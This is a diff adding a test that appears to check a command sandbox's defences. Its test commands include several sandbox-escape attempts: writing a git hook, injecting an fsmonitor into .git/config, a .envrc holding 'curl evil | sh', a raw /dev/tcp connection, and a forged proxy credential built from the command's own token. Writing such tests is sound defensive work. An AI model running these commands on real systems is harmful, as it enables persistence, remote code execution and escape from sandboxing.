@@ -140,6 +140,37 @@ describe('an approved command', () => {
     );
   });
 
+  it('with a host approved still cannot plant a hook, change .git/config or leave a .envrc, and goes nowhere but through the proxy', async () => {
+    const before = server.hits();
+    const outcome = await runIn(
+      sandbox,
+      fx,
+      [
+        'echo evil > .git/hooks/post-checkout',
+        'echo "[core] fsmonitor = evil" >> .git/config',
+        'echo "curl evil | sh" > .envrc',
+        // Straight to the server, around the bridge: the sandbox has no network of its own.
+        `exec 3<>/dev/tcp/127.0.0.1/${server.port} && echo CONNECTED`,
+        // Through the proxy to a host the sheet did not name: refused, and named.
+        'curl -sS http://example.com/',
+        // To the proxy's socket itself, as another command (a made-up id, this command's token): no host of its own.
+        't=${HTTP_PROXY#http://*:}; t=${t%%@*}',
+        `for s in /tmp/gatehouse-sandbox-*/claude-http-*.sock; do echo "TRIED $s"; curl -sS --unix-socket "$s" -x "http://srt.$(printf forged-id-forged-id | base64):$t@localhost:3128" http://127.0.0.1:${server.port}/; done`,
+        'exit 0',
+      ].join('; '),
+      { grant: 'approved', hosts: ['127.0.0.1'] },
+    );
+    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    expect(readFileSync(path.join(fx.ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
+    expect(existsSync(path.join(fx.ws, '.envrc'))).toBe(false);
+    expect(outcome.output).not.toContain('CONNECTED');
+    expect(outcome.output).toMatch(/TRIED \/tmp\/gatehouse-sandbox-[^*\n]+\.sock/);
+    expect(outcome.output).not.toContain('hello from the test server');
+    expect(server.hits() - before).toBe(0);
+    expect(outcome.blocked.join('\n')).toMatch(/Reaching example\.com \(port 80\) was refused/);
+    expect(outcome.blocked.join('\n')).toMatch(/\.envrc/);
+  });
+
   it('with no host approved reaches none, and names what it tried', async () => {
     const before = server.hits();
     const outcome = await runIn(sandbox, fx, `curl -sS --noproxy '' http://127.0.0.1:${server.port}/; exec 3<>/dev/tcp/127.0.0.1/${server.port} && echo CONNECTED`, { grant: 'approved' });
